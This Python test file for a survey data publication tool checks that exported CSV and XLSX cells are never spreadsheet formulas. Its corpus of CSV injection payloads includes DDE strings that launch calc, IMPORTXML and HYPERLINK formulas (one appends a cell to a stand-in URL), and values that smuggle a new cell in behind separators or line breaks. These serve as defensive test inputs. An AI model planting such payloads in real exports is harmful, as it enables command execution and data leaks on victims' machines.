"""PUB06: no cell of a download is a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from factories import SECRET, SERVICES, new_store, responses
from openpyxl import load_workbook

from collector.publication.formulas import spreadsheet_text
from collector.publication.release import publish
from survey_definitions.loader import load_surveys

# The cases of OWASP's page on CSV injection and of CWE-1236: signs, control characters, wide signs, DDE, links, and
# a new cell begun by a separator, a quote or a line end inside the text.
CORPUS = (
    "=1+1", "+62811", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", '="x"&HYPERLINK("a")',
    '=HYPERLINK("http://a.example?x="&A1,"klik")', '=IMPORTXML("http://a.example","//a")', "=DDE(1;2;3)",
    "-2+3+cmd|' /C calc'!E1", "  =1+1", "\u00a0=1+1", "'=1", '"=1', "aman;=1+1", 'aman";=1+1', "aman\n=1+1",
    "aman\r\n@A1", "aman\t+1", "aman; -1", "--1", "=-1", "%0A-1\n-1",
)  # fmt: skip
# How a spreadsheet may cut a line, and the start that makes a cell a formula, blanks and quotes before it aside.
DELIMITERS = (",", ";", "\t")
DANGEROUS = re.compile('[\\s"]*[=+\\-@＝＋－＠]|[\t\r\n\0]')
NUMBER = re.compile(r"-?\d+")


@pytest.mark.parametrize("text", ["=1+1", "+62811", "-1", "@SUM(A1)", "\t=1", "\r=1", "\0=1"])
def test_spreadsheet_text_defuses_formulas(text: str) -> None:
    """Text that a spreadsheet would compute gets an apostrophe."""
    assert "'" == str(spreadsheet_text(text))[0]


def test_spreadsheet_text_defuses_a_cell_begun_inside() -> None:
    """Behind a semicolon or a line end, where another cell may begin, the apostrophe stands as well."""
    assert "a;'=1" == spreadsheet_text("a;=1")
    assert "a\n'@x" == spreadsheet_text("a\n@x")


@pytest.mark.parametrize("value", [-5, 0, None, "KTP-el", "a=b", "", "2024-T1", "Jl. Uji 1, lt. 2", "a, -b"])
def test_spreadsheet_text_leaves_the_rest(value: object) -> None:
    """Numbers, also negative ones, and harmless text stay as they are."""
    assert value == spreadsheet_text(value)  # type: ignore[arg-type]


def test_published_cells_are_no_formulas(tmp_path: Path) -> None:
    """Services named like every case of the corpus: 0 dangerous cells in CSV, however it is cut, and in XLSX."""
    store = new_store(tmp_path, services=(*SERVICES, *_services()))
    for number, text in enumerate(CORPUS):  # as they are; reading a register may trim them
        values = (text, text, f"x{number}")
        store.connection.execute("UPDATE service SET name_id = ?, note = ? WHERE code = ?", values)
    store.append(responses(20))
    publish(store, load_surveys(), tmp_path / "out", secret=SECRET)
    cells = [cell for path in (tmp_path / "out" / "data").glob("*.csv") for cell in _csv_cells(path)]
    assert len(cells) > 3 * len(CORPUS)
    assert [] == [cell for cell in cells if DANGEROUS.match(cell) and not NUMBER.fullmatch(cell)]
    book = load_workbook(tmp_path / "out" / "data" / "workbook.xlsx")
    found = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    assert [] == [cell.value for cell in found if cell.data_type == "f"]
    assert [] == [cell.value for cell in found if cell.data_type == "s" and DANGEROUS.match(cell.value)]


def _services() -> list[tuple[str, ...]]:
    return [("dinas", f"x{number}", "Nama", "Name", "", "") for number in range(len(CORPUS))]


def _csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode()
    return [
        cell
        for delimiter in DELIMITERS
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
